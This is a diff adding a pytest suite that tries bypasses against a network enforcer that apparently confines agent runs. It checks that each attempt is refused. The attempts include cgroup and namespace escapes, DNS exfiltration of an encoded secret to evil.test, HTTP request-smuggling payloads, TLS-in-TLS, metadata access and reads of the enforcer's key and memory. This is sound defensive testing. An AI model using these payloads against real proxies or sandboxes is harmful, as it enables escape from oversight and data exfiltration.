@@ -1,0 +1,294 @@
+"""Ways around the enforcer, by the numbers of the design's table, each really tried from inside of a run of a whole `capd up`.
+
+What lives here: attacks and how each ends. What must not: the instance (instance.py), the layers one by one (test_bypasses.py).
+
+The rows run against one instance, in order; none may send the sink a packet, or those that may say so: then each request that
+arrived has a decision that allows it. Not here: 6 (what helpers outside of a run do; docs/enforcement.md says so), 16 to 24
+(SQL, SSH, Kubernetes: not decoded by the enforcer yet), 25 (credentials: not injected yet), 30 (a connection from before is cut:
+test_bypasses.py).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.daemon.conftest import ENVIRONMENT, capd, wait_until
+from tests.forcing.instance import POLICY, PROXY_PORT, RESOLVER_PORT, Instance, instance
+from tests.forcing.yard import TARGET_PORT, Yard
+from tests.requirements import require_command, require_probes
+
+pytestmark = pytest.mark.kernel
+REFUSED = ("EPERM", "EACCES", "ECONNREFUSED", "ECONNRESET", "PermissionError", "timeout", "EAFNOSUPPORT", "EADDRINUSE")
+DENIED = ("HTTP/1.1 403", *REFUSED)
+BAD = ("HTTP/1.1 400", "HTTP/1.1 421", "HTTP/1.1 417", *DENIED)
+SSL_ERROR = "ENOENT"
+"""What errors of OpenSSL look like: their number is 2."""
+V6 = "family=socket.AF_INET6"
+QUERY = "bytes.fromhex('123401000001000000000000') + b'\\x08c2VjcmV0\\x04evil\\x04test\\0\\0\\1\\0\\1'"
+ASK = f"""
+client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(3)
+client.sendto({QUERY}, ("10.77.0.2", 53))
+return client.recv(600)[3] & 15
+"""
+RELAY = "forked(lambda: forked(lambda: say(get('/shut'))))"
+SUBTREE = """
+below = cgroups + open("/proc/self/cgroup").read().strip().rpartition(":")[2] + "/below"
+os.mkdir(below)
+return forked(lambda: join(below) or say(get("/shut")))
+"""
+
+
+def raw(head: str, body: str = "") -> str:
+    """Give the body of an attack that sends a request as it stands; the second request would be the smuggled one."""
+    return f"say({head!r}.encode('latin-1') + {body!r}.encode('latin-1'))"
+
+
+START = "POST /open/a HTTP/1.1\r\nHost: 10.77.0.2\r\n"
+SMUGGLED = "GET /shut HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n"
+
+SILENT: list[tuple[str, str, str, tuple[str, ...]]] = [
+    ("1 a cgroup of its own below the run's", "root", SUBTREE, DENIED),
+    ("3 leaves as a user", "user", 'join(cgroups) or say(get("/shut"))', ("EACCES", "EPERM", "PermissionError")),
+    ("5 mark", "root", 'tcp("10.77.0.2", 80, mark=0x2000)', REFUSED),
+    ("5 mark of a user", "user", 'tcp("10.77.0.2", 80, mark=1)', ("EPERM",)),
+    ("7 a namespace with a way out", "root", "forked(other_namespace)", REFUSED),
+    ("7 a user's own namespace", "user", "forked(own_namespace)", (*REFUSED, "ENETUNREACH", "EINVAL", "ENOSPC")),
+    ("8 QUIC", "root", 'udp("10.77.0.2", 443)', REFUSED),
+    ("8 ICMP", "root", 'raw("10.77.0.2", 1)', REFUSED),
+    ("8 ping socket", "user", 'raw("10.77.0.2", 1, kind=socket.SOCK_DGRAM)', REFUSED),
+    ("8 SCTP", "root", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", (*REFUSED, "EPROTONOSUPPORT")),
+    ("8 UDP-Lite", "root", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)", (*REFUSED, "EPROTONOSUPPORT")),
+    ("8 packet socket of a user", "user", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", ("EPERM",)),
+    ("8 TCP that is no HTTP", "user", 'tcp("10.77.0.2", 2525)', REFUSED),
+    ("8 IPv4 in IPv6", "user", f'say(get("/shut"), "::ffff:10.77.0.2", {V6})', DENIED),
+    ("8 multipath TCP", "user", 'say(get("/shut"), made=socket.socket(2, 1, 262))', (*DENIED, "EPROTONOSUPPORT", "ENOPROTOOPT")),
+    ("8 data in the first packet", "user", "return fast_open()", DENIED),
+    ("8 foreign source address", "root", "return transparent()", (*DENIED, "EADDRNOTAVAIL", "EHOSTUNREACH")),
+    ("9 a name as a message", "user", ASK, ("3",)),
+    ("9 DNS over TLS", "user", 'say(b"x", port=853, tls="dns.test")', (*DENIED, "cut")),
+    ("9 DNS over TCP", "user", 'tcp("10.77.0.2", 53)', REFUSED),
+    ("9 a name as a Host", "user", 'say(get("/x", "c2VjcmV0.evil.test"))', DENIED),
+    ("9 a name as a server's", "user", 'say(get("/x", "c2VjcmV0.evil.test"), port=443, tls="c2VjcmV0.evil.test")', DENIED),
+    ("9 mDNS", "user", 'udp("224.0.0.251", 5353)', REFUSED),
+    ("10 another Host than the name", "user", 'say(get("/open/a"), port=443, tls="open.test")', BAD),
+    ("10 absolute form elsewhere", "user", raw("GET http://10.77.0.9/open/a HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n"), BAD),
+    ("10 another port", "user", raw("GET /open/a HTTP/1.1\r\nHost: 10.77.0.2:8080\r\n\r\n"), BAD),
+    ("10 no name, any Host", "user", 'say(get("/open/a", "other.test"), port=443, tls="")', BAD),
+    ("10 TLS in TLS", "user", "return tls_in_tls()", (*BAD, SSL_ERROR)),
+    ("11 an allowed name elsewhere", "user", 'say(get("/x", "open.test"), "10.77.0.9")', DENIED),
+    ("11 an allowed name that leads to loopback", "user", f'say(get("/x", "rebound.test:{TARGET_PORT}"), "127.0.0.1", {TARGET_PORT})', DENIED),
+    ("11 metadata", "user", 'say(get("/x", "open.test"), "169.254.169.254")', REFUSED),
+    ("12 CONNECT", "user", raw("CONNECT 10.77.0.2:443 HTTP/1.1\r\nHost: 10.77.0.2:443\r\n\r\n"), BAD),
+    ("12 STARTTLS after nothing", "user", 'say(b"EHLO a\\r\\nSTARTTLS\\r\\n", port=2525)', (*DENIED, "cut")),
+    ("13 both lengths", "user", raw(START + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\n\r\n" + SMUGGLED), BAD),
+    ("13 a coding in disguise", "user", raw(START + "Transfer_Encoding: chunked\r\nContent-Length: 4\r\n\r\n", SMUGGLED), (*BAD, "cut")),
+    ("13 a coding that is none", "user", raw(START + "Transfer-Encoding: \x0bchunked\r\n\r\n", SMUGGLED), BAD),
+    ("13 an encoded path", "user", raw("GET /open/..%2fshut HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n"), BAD),
+    ("13 dots", "user", raw("GET /open/../shut HTTP/1.1\r\nHost: 10.77.0.2\r\nConnection: close\r\n\r\n"), BAD),
+    ("13 another method by a field", "user", raw(START + "X_HTTP_Method_Override: DELETE\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"), BAD),
+    ("13 obs-text in Host", "user", raw("GET /open/a HTTP/1.1\r\nHost: 10.77.0.\xb2\r\n\r\n"), BAD),
+    ("13 h2c by prior knowledge", "user", raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), (*BAD, "cut")),
+    ("14 another path of an allowed host", "user", 'say(get("/shut"))', DENIED),
+    ("14 another method", "user", 'say(get("/open/a", method="DELETE"))', DENIED),
+    ("15 through a process of the run", "user", RELAY, DENIED),
+    ("26 the proxy's port", "user", f'tcp("127.0.0.1", {PROXY_PORT})', REFUSED),
+    ("26 the proxy's port, elsewhere on loopback", "user", f'say(get("/x"), "127.0.0.2", {PROXY_PORT})', BAD),
+    ("26 datagrams to the proxy's port", "user", f'udp("127.0.0.1", {PROXY_PORT})', REFUSED),
+    ("26 the resolver's port", "user", f'udp("127.0.0.1", {RESOLVER_PORT})', REFUSED),
+    ("26 listening in its place", "user", f'socket.create_server(("127.0.0.1", {PROXY_PORT}), reuse_port=True)', REFUSED),
+    ("26 the authority's key", "user", 'open(state + "/enforcer/authority.key")', REFUSED),
+    ("26 the decision log", "user", 'os.listdir(state + "/enforcer/decisions")', REFUSED),
+    ("26 the policy", "user", 'open(policy, "a")', REFUSED),
+    ("26 the enforcer's memory", "user", "return memory()", (*REFUSED, "FileNotFoundError", "ENOENT")),
+]
+
+HELPERS = """
+def other_namespace():
+    namespace("{sink}")
+    return attempt(lambda: udp("10.77.0.1", 443)) + " " + attempt(lambda: tcp("10.77.0.1", 80))
+def own_namespace():
+    if ctypes.CDLL(None, use_errno=True).unshare(0x50000000): return "EPERM"
+    return tcp("10.77.0.2", 80)
+def fast_open():
+    with socket.socket() as client:
+        client.sendto(get("/shut"), 0x20000000, ("10.77.0.2", 80))
+        return client.recv(9999).decode()
+def transparent():
+    client = socket.socket()
+    client.setsockopt(0, 19, 1)
+    client.bind(("192.0.2.99", 0))
+    return say(get("/shut"), made=client, seconds=0.5)
+def tls_in_tls():
+    context = ssl._create_unverified_context()
+    with socket.create_connection(("10.77.0.2", 443), 3) as outer, context.wrap_socket(outer, server_hostname="open.test") as once:
+        inner, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+        twice = context.wrap_bio(inner, out, server_hostname="open.test")
+        try: twice.do_handshake()
+        except ssl.SSLWantReadError: pass
+        once.sendall(out.read())
+        inner.write(once.recv(9999) or b"x")
+        try: twice.do_handshake()
+        except ssl.SSLWantReadError: inner.write(once.recv(9999) or b"x")
+        twice.do_handshake()
+        twice.write(get("/open/a", "other.test"))
+        once.sendall(out.read())
+        inner.write(once.recv(9999) or b"x")
+        return twice.read(9999).decode()
+def memory():
+    for one in os.listdir("/proc"):
+        if one.isdigit() and b"capd.cli.main" in open("/proc/" + one + "/cmdline", "rb").read():
+            open("/proc/" + one + "/mem", "rb")
+state, policy, cgroups = "{state}", "{policy}", "{cgroups}"
+"""
+
+
+@pytest.fixture(scope="module")
+def place(ground: Yard) -> Iterator[Instance]:
+    """Start what all rows share."""
+    require_probes()
+    require_command("nft", "nsenter", "setpriv")
+    with instance(ground) as made:
+        directory = made.daemon.directory
+        helpers = HELPERS.replace("{sink}", str(ground.sink)).replace("{state}", f"{directory}/state")
+        helpers = helpers.replace("{policy}", f"{directory}/policy/policy.yaml")
+        helpers = helpers.replace("{cgroups}", str(ground.root))
+        for agent in (made.user, made.root):
+            agent.does(f"exec({helpers!r}, globals())\nreturn 1")
+        yield made
+
+
+def clear(place: Instance) -> None:
+    """Forget what the sink has seen."""
+    place.sink.take()
+    place.ground.seen()
+
+
+@pytest.mark.parametrize(("name", "who", "body", "ends"), SILENT, ids=[row[0] for row in SILENT])
+def test_no_packet_gets_past(place: Instance, name: str, who: str, body: str, ends: tuple[str, ...]) -> None:
+    """The attack ends in a refusal that the agent sees, and the sink hears nothing at all."""
+    clear(place)
+    found = getattr(place, who).does(body)
+    assert any(found.startswith(end) for end in ends), (name, found)
+    assert [] == place.ground.seen(), name
+    assert b"" == place.sink.take()
+
+
+CHUNKED = START + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
+JUDGED = {
+    "13 a second request after one that is allowed": "GET /open/b HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n" + SMUGGLED,
+    "13 a second request after one that is denied": SMUGGLED + SMUGGLED,
+    "13 a field in a trailer": CHUNKED + "1\r\nx\r\n0\r\nX-HTTP-Method-Override: SHUT\r\n\r\n",
+    "13 extensions of a chunk": CHUNKED + "1;a=\"SHUT\"\r\nx\r\n0\r\n\r\n",
+    "13 a body that looks like a request": f"{START}Content-Length: {len(SMUGGLED)}\r\n\r\n{SMUGGLED}",
+    "13 HTTP/1.0 that goes on": "GET /open/c HTTP/1.0\r\nHost: 10.77.0.2\r\nConnection: keep-alive\r\n\r\n" + SMUGGLED,
+    "13 an upgrade to h2c": "GET /open/d HTTP/1.1\r\nHost: 10.77.0.2\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n" + SMUGGLED,
+    "13 an expectation": START + "Expect: 100-continue\r\nContent-Length: 1\r\n\r\nx" + SMUGGLED,
+}
+
+
+@pytest.mark.parametrize("name", JUDGED)
+def test_only_what_was_decided_arrives(place: Instance, name: str) -> None:
+    """Where a part is allowed the sink gets that, as it was judged, and each request that it sees has its decision."""
+    clear(place)
+    place.user.does(f"say({JUDGED[name]!r}.encode(), seconds=0.4)")
+    received = place.sink.take()
+    assert [] == place.undecided(received.replace(SMUGGLED.encode(), b"") if "body" in name else received), received
+    assert ("body" in name) is (b"GET /shut" in received)
+    assert b"SHUT" not in received
+
+
+def test_2_a_socket_of_the_run_outside_of_it(place: Instance) -> None:
+    """A root agent that leaves keeps its sockets judged, and is named by the status: the alarm."""
+    clear(place)
+    leave = 'made = socket.socket()\ndef left():\n    join(cgroups)\n'
+    leave += '    found = say(get("/shut"), made=made)\n    if os.fork() == 0:\n        os.closerange(0, 99); time.sleep(8); os._exit(0)\n'
+    assert "HTTP/1.1 403" in place.root.does(f"{leave}    return found\nreturn forked(left)")
+    assert [] == place.ground.seen()
+    wait_until(lambda: place.daemon.status()["enforcement"]["escaped"], "it is named", 8)
+
+
+def test_4_another_root_flushes_the_rules(place: Instance) -> None:
+    """`nft flush ruleset` changes nothing for agents."""
+    clear(place)
+    subprocess.run(["nsenter", f"--net={place.ground.host}", "nft", "flush", "ruleset"], check=True)
+    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')
+    assert place.user.does('udp("10.77.0.2", 443)') in REFUSED
+    assert [] == place.ground.seen()
+
+
+def test_26_verbs_are_not_an_agents(place: Instance) -> None:
+    """An agent cannot take enforcement away, end another's run, or read what was decided."""
+    command = capd("enforcement", "off", "--config", place.daemon.config)
+    body = f"import subprocess\ndone = subprocess.run({command!r}, env={dict(ENVIRONMENT)!r}, capture_output=True)\nreturn done.returncode"
+    assert "0" != place.user.does(body)
+    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')
+
+
+def workers(place: Instance) -> list[int]:
+    """Give the enforcer's processes, its parent first."""
+    first = json.loads((place.daemon.directory / "run" / "enforcer" / "enforcer.status.json").read_bytes())
+    return [first["pid"], first["workers"][0]["pid"]]
+
+
+@pytest.mark.parametrize("which", [1, 0])
+def test_27_a_killed_enforcer_lets_nothing_out(place: Instance, which: int) -> None:
+    """With a worker, or all of the enforcer, killed in the middle of a request nothing gets past, and it is back in seconds."""
+    begin = START + "Content-Length: 9\r\n\r\nx"
+    place.user.does(f"global kept\nkept = socket.create_connection(('10.77.0.2', 80), 3)\nkept.sendall({begin!r}.encode())\nreturn 1")
+    wait_until(lambda: b"POST /open/a" in place.sink.take(), "it is under way", 5)
+    os.kill(workers(place)[which], signal.SIGKILL)
+    killed = time.monotonic()
+    assert place.user.does("kept.recv(10)") in ("ECONNRESET", "b''")
+    clear(place)
+    found = place.user.does('say(get("/shut"), seconds=1)')
+    assert found.startswith((*DENIED, "cut")), found
+    assert b"" == place.sink.take()
+    place.until('say(get("/open/again"))', "200 OK", 6)
+    assert time.monotonic() - killed < 6
+
+
+def rewrite(place: Instance, text: str) -> None:
+    """Put another policy in place."""
+    path = Path(place.daemon.directory) / "policy" / "policy.yaml"
+    path.write_text(text, encoding="utf-8")
+
+
+def test_29_a_policy_that_is_wrong_changes_nothing(place: Instance) -> None:
+    """A rule with a key that there is none is told, and the policy before stays in force."""
+    rewrite(place, POLICY.replace("methods: [GET, POST]", "mehtods: [GET, POST]"))
+    path = place.daemon.directory / "run" / "enforcer" / "worker-0.status.json"
+    wait_until(lambda: b"mehtods" in path.read_bytes(), "it is told", 5)
+    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')
+    assert "HTTP/1.1 200" in place.user.does('say(get("/open/a"))')
+    rewrite(place, POLICY)
+    wait_until(lambda: b"mehtods" not in path.read_bytes(), "it is well again", 5)
+
+
+def test_28_a_policy_that_tightens_ends_what_is_open(place: Instance) -> None:
+    """An upload that is under way is cut within two seconds when no rule allows it any more."""
+    begin = START + "Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n"
+    place.user.does(f"global kept\nkept = socket.create_connection(('10.77.0.2', 80), 3)\nkept.sendall({begin!r}.encode())\nreturn 1")
+    wait_until(lambda: b"POST /open/a" in place.sink.take(), "it is under way", 5)
+    rewrite(place, POLICY.replace("GET, POST", "GET"))
+    assert "ECONNRESET" == place.user.does("kept.recv(10)")
+    clear(place)
+    assert place.user.does("kept.sendall(b'1\\r\\ny\\r\\n')") != "None"
+    assert b"" == place.sink.take()
+    rewrite(place, POLICY)
+
+
+def test_every_request_at_the_sink_was_decided(place: Instance) -> None:
+    """After all of that the decision log is whole, and its denials name the runs' connections."""
+    entries: list[dict[str, Any]] = place.entries()
+    opened = {entry["session"] for entry in entries if entry["kind"] == "open"}
+    assert {entry["session"] for entry in entries if entry["kind"] == "decision"} <= opened
+    assert any(not entry["allowed"] for entry in entries if entry["kind"] == "decision")
